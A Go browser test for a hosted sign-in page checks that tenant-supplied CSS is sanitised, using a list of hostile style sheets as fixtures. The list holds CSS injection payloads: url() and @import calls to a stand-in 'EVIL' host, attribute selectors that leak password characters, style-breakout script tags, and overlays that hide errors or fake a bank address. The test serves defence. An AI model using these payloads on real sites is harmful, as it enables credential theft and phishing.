package e2e

import (
	"bytes"
	"context"
	"fmt"
	"image"
	_ "image/jpeg"
	_ "image/png"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"portico/app/branding"
	"portico/app/i18n"
	"portico/views/hosted"
	"portico/views/ui"
)

// hostile are style sheets that want more than to look well. EVIL is a host that must never be asked.
func hostile() []string {
	return []string{
		`@import "EVIL/import"; @import url(EVIL/import2); @namespace x url(EVIL/ns);`,
		`@font-face { font-family: x; src: url(EVIL/font) } body, .ext-title { font-family: x }`,
		`body { background: url(EVIL/a) } .ext-title { background-image: url("EVIL/b") } a { background: url('EVIL/c') }`,
		`body { background: \75rl(EVIL/d) } .ext-title { background: u\72 l("EVIL/e") } a { background: \000055\000052\00004c("EVIL/f") }`,
		`body { background-image: image-set("EVIL/g" 1x) } .ext-title { background: -webkit-image-set(url(EVIL/h) 1x) } a { background: -webkit-cross-fade(url(EVIL/i), url(EVIL/j), 50%) }`,
		`.ext-title { list-style: url(EVIL/k); cursor: url(EVIL/l), auto; border-image: url(EVIL/m) 1; mask: url(EVIL/n); filter: url(EVIL/o#p); content: url(EVIL/q) }`,
		`body { --x: url(EVIL/r); background: var(--x) } .ext-title { background: var(--nothing, url(EVIL/s)) }`,
		`input[value^="m"] { background: url(EVIL/t) } .ext-input[type=password][value$="a"] { background: url(EVIL/u) } body:has(input[name=proof][value^=c]) { background: url(EVIL/v) }`,
		`.ext-title { color: red } </style><script>window.pwned = 1; fetch("EVIL/w")</script><img src="EVIL/x" onerror="window.pwned=2">`,
		`.ext-title { font-family: "</style><img src=EVIL/y onerror=window.pwned=3>" } .ext-title { color: red; /* </style><script>window.pwned=4</script> */ }`,
		`.ext-title { width: expression(window.pwned=5); behavior: url(EVIL/z); -moz-binding: url(EVIL/0#x); background: url(javascript:window.pwned=6) }`,
		`@media screen { body { background: url(EVIL/1) } @import "EVIL/2"; } @supports (display: grid) { body { background: url(EVIL/3) } } @layer overrides { body { background: url(EVIL/4) } }`,
		`.ext-error, .ext-button.ext-primary, .ext-footer, .ext-footer-item, .ext-sign-in-box { display: none; visibility: hidden; opacity: 0; font-size: 0; color: transparent; height: 0; max-height: 0; overflow: hidden; transform: scale(0); clip-path: inset(50%); text-indent: -9999px; margin: -9999px; position: fixed; left: -9999px; pointer-events: none; z-index: -1 }`,
		`.ext-header { position: fixed; inset: 0; z-index: 999; background: white; min-height: 1000vh } .ext-header-logo { position: absolute; width: 100vw; height: 100vh } .ext-background-image { z-index: 99 !important; position: fixed !important }`,
		`.ext-title::before { content: "https://bank.example"; position: fixed; top: 0; left: 0; right: 0; background: white; z-index: 9999 } body::after { content: "" ; position: fixed; inset: 0 }`,
		`.ext-sign-in-box { box-shadow: inset 0 0 0 9999px #fff, 0 0 0 9999px #000; letter-spacing: 99em; line-height: 0; padding: 9999px } .ext-error { color: #fff !important; background: #fff !important }`,
		`* { display: none } html { display: none } #main { display: none } .card, .who, .strip, main, form, button { display: none } :root { --danger: white; --ink: white }`,
		"\ufeff@charset \"utf-7\"; +ADw-script+AD4- body\x00{background:url(EVIL/5)} a{color:red;}}}}} body{background:url(EVIL/6)} .ext-title{&{background:url(EVIL/7)}}",
		`.ext-title { background: url( EVIL/8 } .ext-subtitle { background: url("EVIL/9
		) } a { color: "x
		; background: url(EVIL/10) }`,
		`body { font-size: var(--space-1); line-height: var(--space-1); background: var(--accent) } .ext-sign-in-box { max-width: var(--space-1); width: 50% } .ext-input { width: var(--space-1); max-width: 50% } .ext-title { line-height: var(--space-1) }`,
		`.ext-title { box-shadow: 0 -64px 0 64px #fff } .ext-input { box-shadow: 0 -30px 0 20px #fff, 0 0 8px 8px #fff } .ext-subtitle { box-shadow: 0 -8px 0 0 #fff; text-shadow: 0 -16px 0 #fff } .ext-button { box-shadow: 0 -40px 40px #fff, 0 -40px 40px rgb(255 255 255 / 50%) }`,
		`.ext-title { color: light-dark(transparent, transparent) } .ext-subtitle { color: var(--surface) } .ext-sign-in-box { background: #000; color-scheme: light } .ext-footer, .ext-footer-item { color: var(--canvas) }`,
		`.ext-sign-in-box { background: hsl(0 0% 7%) }`, `.ext-sign-in-box { background: var(--ink) }`, `.ext-sign-in-box { background: linear-gradient(#000, #222) }`, `.ext-sign-in-box { background: linear-gradient(#000, #fff) }`,
		`.ext-sign-in-box { background: #fff } .ext-title, .ext-subtitle, a { color: #fff } body { color: #fff; background: #111 } .ext-footer-item { color: #fff }`,
		`.ext-sign-in-box { background: #000 } .ext-title { color: #fff } .ext-middle .ext-sign-in-box { background: #fff; color: #eee } @media (min-width: 1px) { .ext-sign-in-box { background: snow } }`,
		`.ext-primary { background: #fff } .ext-secondary { color: #fff } .ext-button.ext-primary { color: #fff; opacity: .6 } .ext-button { background: #fff; color: #fff }`,
	}
}

// TestAHostileTheme: whatever a company's style sheet says, Chromium asks no other host, runs nothing, and what has to be
// seen is seen and can be pressed. The pages come without a Content-Security-Policy here, so that what holds is the
// cleaning alone; the policy of the real pages stands behind it.
func TestAHostileTheme(t *testing.T) {
	t.Parallel()
	asked := make(chan string, 1000) // the paths that another host was asked for
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { asked <- r.URL.Path }))
	defer evil.Close()
	bundle, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	sheets := hostile()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var n int
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if _, err := fmt.Sscanf(r.URL.Path, "/sheet/%d", &n); err != nil || n > len(sheets) {
			http.NotFound(w, r)
			return
		}
		if n == len(sheets) { // shows that the test sees what it is about
			fmt.Fprintf(w, `<style>body{background:url(%s/control)}</style><p>x`, evil.URL)
			return
		}
		yes := true
		look := branding.Look{Elements: branding.Elements{ShowHeader: &yes, SignInText: "A text", CSS: strings.ReplaceAll(sheets[n], "EVIL", evil.URL),
			Privacy: branding.Link{URL: "https://example.com/privacy"}, Terms: branding.Link{URL: "https://example.com/terms"}}}
		b := ui.LookBrand("Fernhill Group", look, func(p branding.Picture) string { return "/" + p.Hash }, nil)
		ctx := i18n.With(context.Background(), bundle.Match("en"))
		for _, f := range hosted.Fixtures(b, nil) {
			if f.Name == "sign-in-error" {
				var page bytes.Buffer
				if err := f.Page.Render(ctx, &page); err != nil {
					t.Error(err)
				}
				_, _ = page.WriteTo(w)
			}
		}
	}))
	defer site.Close()

	ctx := bareBrowser(t)
	for n := 0; n <= len(sheets); n++ {
		once, cancel := context.WithTimeout(ctx, patience)
		if err := chromedp.Do(once, chromedp.Navigate(fmt.Sprintf("%s/sheet/%d", site.URL, n))); err != nil {
			t.Fatalf("sheet %d: %v", n, err)
		}
		if n == len(sheets) {
			cancel()
			break
		}
		wrong, err := chromedp.Run(once, chromedp.Evaluate[string](seen))
		if err == nil && wrong == "" {
			wrong, err = unread(once)
		}
		cancel()
		if err != nil {
			t.Fatalf("sheet %d: %v", n, err)
		}
		if wrong != "" {
			t.Errorf("sheet %d: %s\n%s", n, wrong, sheets[n])
		}
	}
	// Paths tell a late request of a sheet from that of the page which shows that the test sees what it is about.
	for {
		select {
		case path := <-asked:
			if path == "/control" {
				return
			}
			t.Errorf("another host was asked for %s, which names the sheet", path)
		case <-time.After(patience):
			t.Fatal("nor did a page ask that does: this test sees nothing")
		}
	}
}

// seen says what of a page could not be seen, pressed or read, "" when all could.
const seen = `(() => {
  if (window.pwned) return "a script ran: " + window.pwned;
  if (document.querySelectorAll("style").length !== 1) return "the style was left";
  for (const at of [".summary", ".summary a", ".field__error", "#f-email", "#f-password", "#main button[type=submit]", "h1", ".foot a", ".ways button"]) {
    const e = document.querySelector(at);
    if (!e) return "no " + at;
    e.scrollIntoView({block: "center"});
    const r = e.getClientRects()[0], s = getComputedStyle(e);
    if (!r || r.width < 8 || r.height < 8) return at + " has no size";
    if (r.left < 0 || r.right > innerWidth || r.top < 0 || r.top > innerHeight) return at + " is elsewhere: " + JSON.stringify(r);
    if (parseFloat(s.fontSize) < 12 || s.visibility !== "visible") return at + " is hidden";
    for (let up = e; up; up = up.parentElement) if (parseFloat(getComputedStyle(up).opacity) < .6) return at + " is seen through";
    const top = document.elementFromPoint(r.left + Math.min(r.width / 2, 40), r.top + r.height / 2);
    if (!top || !(e.contains(top) || top.contains(e))) return at + " is covered by " + (top && top.outerHTML.slice(0, 80));
    if (getComputedStyle(document.querySelector(".summary a")).color === "rgb(255, 255, 255)") return "an error is white";
  }
  return "";
})()`

// unread says what cannot be read in the picture of a page: where some text stands, too few dots differ from the ground. It
// sees what elementFromPoint does not: shadows that lie on a part, and ink like paper.
func unread(ctx context.Context) (string, error) {
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1200, 2000)); err != nil {
		return "", err
	}
	where, err := chromedp.Run(ctx, chromedp.Evaluate[[]map[string]any](`(() => { scrollTo(0, 0); document.activeElement.blur();
	  return [".summary h2", ".summary a", ".field__label", ".field__error", "h1", ".lead", "#main button[type=submit]", ".foot a"].map(at => {
	    const e = document.querySelector(at); if (!e) return {name: at, w: -1};
	    const r = document.createRange(); r.selectNodeContents(e); const b = r.getBoundingClientRect();
	    return {name: at, x: Math.ceil(b.left), y: Math.ceil(b.top), w: Math.floor(b.width), h: Math.floor(b.height)} }) })()`))
	if err != nil {
		return "", err
	}
	shot, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		return "", err
	}
	picture, _, err := image.Decode(bytes.NewReader(shot))
	if err != nil {
		return "", err
	}
	for _, p := range where {
		n := func(name string) int { f, _ := p[name].(float64); return int(f) }
		if n("w") < 0 {
			continue
		}
		count, dots := map[branding.Color]int{}, 0
		var ground branding.Color
		for y := n("y"); y < n("y")+n("h"); y++ {
			for x := n("x"); x < n("x")+n("w"); x++ {
				r, g, b, _ := picture.At(x, y).RGBA()
				c := branding.Color{R: float64(r) / 65535, G: float64(g) / 65535, B: float64(b) / 65535}
				if count[c]++; count[c] > count[ground] {
					ground = c
				}
				dots++
			}
		}
		ink := 0
		for c, n := range count {
			if branding.Contrast(c, ground) >= 2.8 {
				ink += n
			}
		}
		if ink*40 < dots {
			return fmt.Sprintf("%v cannot be read: %d of %d dots on %s", p["name"], ink, dots, ground.Hex()), nil
		}
	}
	return "", nil
}

// bareBrowser is Chromium with nothing but an empty profile.
func bareBrowser(t *testing.T, more ...chromedp.ExecAllocatorOption) context.Context {
	t.Helper()
	path := ""
	for _, candidate := range []string{os.Getenv("CHROMIUM"), "chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(candidate); err == nil && candidate != "" {
			path = found
			break
		}
	}
	if path == "" {
		lacking(t, "Chromium")
	}
	// The profile is chromedp's: it knows that helpers of the browser may still write when it is removed.
	flags := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.WindowSize(1200, 900),
		chromedp.WSURLReadTimeout(patience))
	alloc, stop := chromedp.NewExecAllocator(context.Background(), append(flags, more...)...)
	ctx, cancel := chromedp.NewContext(alloc)
	ctx, end := context.WithTimeout(ctx, 30*time.Minute)
	t.Cleanup(func() { end(); cancel(); stop() })
	if err := chromedp.Do(ctx); err != nil {
		t.Fatalf("start the browser: %v", err)
	}
	return ctx
}

// TestLooksFitEveryScreen: in every look, both directions and a language of long words a page is no wider than the screen,
// at 320 px with text twice as large too.
func TestLooksFitEveryScreen(t *testing.T) {
	t.Parallel()
	bundle, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		b := hosted.SampleLook(q.Get("look"))
		ctx := i18n.With(context.Background(), b.Speak(bundle.Match(q.Get("lang"))))
		for _, f := range hosted.Fixtures(b, hosted.Chooser(bundle, bundle.Match(q.Get("lang")), nil)) {
			if f.Name == q.Get("page") {
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				if err := f.Page.Render(ctx, w); err != nil {
					t.Error(err)
				}
				return
			}
		}
		http.NotFound(w, r)
	}))
	defer site.Close()
	ctx := bareBrowser(t)
	for _, look := range []string{"full", "split", "sheet", "ugly"} {
		for _, lang := range []string{"en", "ar", "de"} {
			for _, width := range []int64{320, 360, 1280} {
				at := fmt.Sprintf("%s/?look=%s&lang=%s&page=sign-in-error", site.URL, look, lang)
				once, cancel := context.WithTimeout(ctx, patience)
				err := chromedp.Do(once, chromedp.EmulateViewport(width, 800), chromedp.Navigate(at))
				var wide string
				if err == nil {
					wide, err = chromedp.Run(once, chromedp.Evaluate[string](`(() => {
					  const over = () => { const w = document.documentElement; return w.scrollWidth > innerWidth ? [...document.querySelectorAll("body *")].filter(e => { const r = e.getBoundingClientRect(); return r.width > 2 && (r.right > innerWidth + 1 || r.left < -1) && !e.closest(".hidden") }).slice(0, 3).map(e => e.outerHTML.slice(0, 90)).join("\n") || "something" : "" };
					  const plain = over();
					  if (plain) return plain;
					  document.documentElement.style.fontSize = "200%";
					  const large = over();
					  return large && "at 200%: " + large;
					})()`))
				}
				cancel()
				if err != nil {
					t.Fatalf("%s %s %d: %v", look, lang, width, err)
				}
				if wide != "" {
					t.Errorf("%s %s at %d px is too wide:\n%s", look, lang, width, wide)
				}
			}
		}
	}
}
